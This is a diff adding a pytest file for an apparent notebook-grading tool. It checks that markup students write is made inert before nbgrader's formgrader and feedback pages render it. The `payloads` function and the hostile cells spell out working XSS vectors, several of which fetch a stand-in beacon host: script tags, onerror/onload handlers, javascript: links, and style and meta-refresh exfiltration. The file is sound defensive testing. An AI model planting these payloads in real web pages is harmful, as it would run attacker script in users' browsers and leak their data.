@@ -1,0 +1,189 @@
+"""Student markup is never live in anything a person opens: the autograded notebook formgrader
+renders, the feedback pages, and (tests/course/test_similarity.py) the similarity pages."""
+
+from __future__ import annotations
+
+import base64
+import copy
+from pathlib import Path
+
+import nbformat
+import pytest
+from bs4 import BeautifulSoup
+from nbconvert.exporters import HTMLExporter
+from nbconvert.filters.markdown_mistune import markdown2html_mistune
+from traitlets.config import Config
+
+from tinyflo.course.instructor import render_config
+from tinyflo.course.nbgrader_steps import (
+    FEEDBACK_POLICY,
+    INERT_CLASS,
+    LINK_SCHEMES,
+    MARKUP_TAGS,
+    FeedbackExporter,
+    InertStudentMarkup,
+    RestoreCourseCells,
+    inert_markdown,
+)
+
+BEACON = "http://127.0.0.1:9"  # in the unit tests: a host the payloads would reach (nothing listens)
+REMOTE = "https://tinyflo.invalid"  # a host on the internet (never resolved: no request may go)
+HARMLESS = "# My answer heading\n\nSome *emphasis*, **strong** and `inline code`.\n\n```python\nx = 1\n```\n"
+
+
+def payloads(beacon: str) -> dict[str, str]:
+    """Markup that would run, load or send something; each reaches `beacon` if it comes alive."""
+    return {
+        "script": f"<script>document.title='pwned';fetch('{beacon}/script')</script>",
+        "img onerror": f"<img src=x onerror=\"document.title='pwned';fetch('{beacon}/img')\">",
+        "svg onload": f"<svg onload=\"fetch('{beacon}/svg')\"><circle r=5></circle></svg>",
+        "iframe javascript": "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
+        "a javascript": f"<a href=\"javascript:fetch('{beacon}/a')\">click me</a>",
+        "object": f"<object data=\"{beacon}/object\"></object><embed src=\"{beacon}/embed\">",
+        "style exfiltration": f"<style>body{{background:url({beacon}/style)}}</style>",
+        "meta refresh": f"<meta http-equiv=\"refresh\" content=\"0;url={beacon}/refresh\">",
+        "form action": f"<form action=\"{beacon}/form\"><input name=q><button>send</button></form>",
+        "base": f"<base href=\"{beacon}/\">",
+        "markdown link": f"[markdown link](javascript:fetch('{beacon}/mdlink'))",
+        "remote image": f"![remote]({REMOTE}/remote.png) ![beacon]({beacon}/remote.png)",
+        "attachment": "![svg](attachment:evil.svg) ![page](attachment:evil.html)",
+        "style attribute": f"<p style=\"background:url({beacon}/inline)\">styled</p>",
+        "code span link": "`[a](javascript:alert(1))` and ```\n<script>alert(1)</script>\n\n\n[b](javascript:1)\n```",
+        "mathjax": "$\\href{javascript:alert(1)}{x}$ and $$\\unicode{<img src=x onerror=alert(1)>}$$",
+    }
+
+
+def hostile_cell(beacon: str) -> nbformat.NotebookNode:
+    """A markdown cell of harmless text, every payload, attachments that run, and metadata pages render."""
+    cell = nbformat.v4.new_markdown_cell(HARMLESS + "\n\n".join(payloads(beacon).values()))
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{beacon}/attsvg\')"><script>fetch("{beacon}/attsvg2")</script></svg>'
+    page = f"<script>fetch('{beacon}/atthtml')</script>"
+    cell.attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
+                        "evil.html": {"text/html": base64.b64encode(page.encode()).decode()}}
+    cell.metadata = {"tags": ['"><script>fetch("x")</script>'], "jupyter": {"source_hidden": True},
+                     "transient": {"remove_source": True}, "alt": "<b>x</b>"}
+    return cell
+
+
+def hostile_raw(beacon: str) -> nbformat.NotebookNode:
+    return nbformat.v4.new_raw_cell(f"<script>fetch('{beacon}/raw')</script><img src=x onerror=fetch('{beacon}/rawimg')>",
+                                    metadata={"raw_mimetype": "text/html"})
+
+
+def live_parts(html: str) -> list[str]:
+    """Whatever in `html` could run, load, style or send: tags outside MARKUP_TAGS, attributes
+    other than a link's href to a web page, and javascript: anywhere in an attribute."""
+    found = []
+    for element in BeautifulSoup(html, "html.parser").find_all(True):
+        if element.name not in MARKUP_TAGS:
+            found.append(f"<{element.name}>")
+        for name, value in element.attrs.items():
+            value = " ".join(value) if isinstance(value, list) else value
+            if name == "href" and element.name == "a" and value.split(":", 1)[0] in LINK_SCHEMES:
+                continue
+            if (name, value) in (("rel", "noopener noreferrer"), ("class", INERT_CLASS), ("class", "")):
+                continue
+            found.append(f"<{element.name} {name}={value!r}>")
+    return found
+
+
+@pytest.mark.parametrize("name", sorted(payloads(BEACON)))
+def test_each_payload_comes_out_inert_and_stays_inert_through_the_pages_markdown(name):
+    source = inert_markdown(payloads(BEACON)[name])
+    # what formgrader and the feedback template do with a markdown cell: nbconvert's markdown2html
+    assert live_parts(source) == [] and live_parts(markdown2html_mistune(source)) == []
+    assert "\n" not in source and inert_markdown(source) == source
+
+
+def test_a_students_harmless_markdown_keeps_its_text_and_structure():
+    soup = BeautifulSoup(markdown2html_mistune(inert_markdown(HARMLESS + "\n[docs](https://numpy.org)\n")),
+                         "html.parser")
+    assert soup.h1.get_text() == "My answer heading" and soup.em.get_text() == "emphasis"
+    assert soup.strong.get_text() == "strong" and soup.find("code").get_text() == "inline code"
+    assert "x = 1" in soup.pre.get_text() and soup.a["href"] == "https://numpy.org"
+    assert soup.div["class"] == ["tex2jax_ignore"]  # MathJax leaves the student's TeX as typed
+
+
+def _course(tmp_path: Path) -> tuple[Path, nbformat.NotebookNode]:
+    """A course's source notebook with its own markdown (an image, HTML and math) and a raw cell."""
+    course_md = nbformat.v4.new_markdown_cell("# Course prose $x^2$\n\n<details><summary>hint</summary>h</details>\n\n![fig](attachment:fig.png)")
+    course_md.attachments = {"fig.png": {"image/png": "iVBORw0KGgo="}}
+    source = nbformat.v4.new_notebook(cells=[course_md, nbformat.v4.new_raw_cell("course raw")])
+    path = tmp_path / "source" / "m01" / "nb.ipynb"
+    path.parent.mkdir(parents=True)
+    nbformat.write(source, path)
+    return tmp_path / "source", source
+
+
+def test_the_course_cells_stay_and_every_cell_the_student_wrote_is_made_inert(tmp_path):
+    source_dir, source = _course(tmp_path)
+    submission = copy.deepcopy(source)
+    submission.cells += [hostile_cell(BEACON), hostile_raw(BEACON)]
+    step = InertStudentMarkup(source_dir=str(source_dir))
+    done, _ = step.preprocess(copy.deepcopy(submission), {"nbgrader": {"assignment": "m01", "notebook": "nb"}})
+    assert done.cells[0] == source.cells[0] and done.cells[1].source == "course raw"
+    student, raw = done.cells[2], done.cells[3]
+    assert live_parts(markdown2html_mistune(student.source)) == [] and "My answer heading" in student.source
+    assert "attachments" not in student and student.metadata == {} and raw.metadata == {}
+    # formgrader names the notebook beside resources["nbgrader"]; a module it cannot name has no course cells
+    same, _ = step.preprocess(copy.deepcopy(submission), {"assignment_id": "m01", "notebook_id": "nb"})
+    assert same == done
+    unknown, _ = step.preprocess(copy.deepcopy(submission), {"assignment_id": "../m01", "notebook_id": "nb"})
+    assert unknown.cells[0].source.startswith('<div class="tex2jax_ignore">') and "attachments" not in unknown.cells[0]
+
+
+def _course_config(tmp_path: Path) -> Config:
+    """The course's nbgrader_config.py, read as traitlets reads it."""
+    config = Config()
+    exec(render_config(tmp_path, tmp_path / "modules"), {"get_config": lambda: config})  # as traitlets does
+    return config
+
+
+def _old_autograded(tmp_path: Path) -> nbformat.NotebookNode:
+    """A hostile notebook as autograde left it before it made markup inert."""
+    _course(tmp_path)
+    notebook = nbformat.v4.new_notebook(cells=[hostile_cell(BEACON), hostile_raw(BEACON)])
+    notebook.metadata["language_info"] = {"name": "python"}
+    return notebook
+
+
+def reaching(page: str) -> list[str]:
+    """The elements of a whole page that could reach the beacon or run: a frame, object, form, base
+    or refresh, an event attribute, a javascript: URL, or a script or attribute naming the beacon."""
+    found = []
+    for element in BeautifulSoup(page, "html.parser").find_all(True):
+        values = " ".join(" ".join(v) if isinstance(v, list) else str(v) for v in element.attrs.values())
+        if (element.name in ("iframe", "object", "embed", "svg", "form", "base", "frame")
+                or (element.name == "meta" and "refresh" in values.lower())
+                or any(name.lower().startswith("on") for name in element.attrs)
+                or "javascript:" in values.lower() or BEACON in values
+                or (element.name == "script" and BEACON in element.get_text())):
+            found.append(str(element)[:80])
+    return found
+
+
+def test_the_course_config_makes_markup_inert_where_it_enters_and_where_formgrader_renders(tmp_path):
+    config = _course_config(tmp_path)
+    steps = config.Autograde.sanitize_preprocessors
+    assert steps.index(InertStudentMarkup) == steps.index(RestoreCourseCells) + 1
+    assert config.InertStudentMarkup.source_dir == str(tmp_path / "source")
+    # formgrader renders a submission with HTMLExporter(config=the course's config) and its template
+    from nbgrader.server_extensions.formgrader import handlers
+    config.HTMLExporter.template_name = "formgrade"
+    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
+    resources = {"assignment_id": "m01", "notebook_id": "nb", "base_url": "", "index": 0, "total": 1,
+                 "submission_id": "s", "student": "mallory", "notebook_path": "autograded/nb.ipynb"}
+    page, _ = HTMLExporter(config=config).from_notebook_node(_old_autograded(tmp_path), resources=resources)
+    notebook = BeautifulSoup(page, "html.parser").find(id="notebook")  # formgrader's own page around it
+    assert reaching(str(notebook)) == [] and "My answer heading" in notebook.get_text()
+
+
+def test_a_feedback_page_forbids_scripts_loads_and_forms_whatever_the_config_says(tmp_path):
+    config = Config()
+    config.HTMLExporter.sanitize_html = False
+    config.HTMLExporter.preprocessors = []
+    page, _ = FeedbackExporter(config=config).from_notebook_node(_old_autograded(tmp_path), resources={})
+    soup = BeautifulSoup(page, "html.parser")
+    assert soup.head.find(True).attrs == {"http-equiv": "Content-Security-Policy", "content": FEEDBACK_POLICY}
+    assert "default-src 'none'" in FEEDBACK_POLICY and "script-src" not in FEEDBACK_POLICY
+    assert reaching(page) == [] and "My answer heading" in soup.body.get_text() and "evil.svg" not in page
